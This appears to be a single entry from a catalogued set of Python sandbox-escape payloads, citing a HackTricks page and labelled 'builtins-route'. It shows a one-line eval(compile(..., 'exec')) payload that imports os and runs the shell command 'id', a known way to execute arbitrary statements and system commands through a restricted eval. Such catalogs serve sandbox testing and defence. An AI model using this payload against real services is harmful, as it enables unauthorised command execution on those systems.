# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (eval(compile(...,'exec')))
# Family: builtins-route
# What: compile in exec mode lets eval run statements
eval(compile("import os\nos.system('id')", "<s>", "exec"))
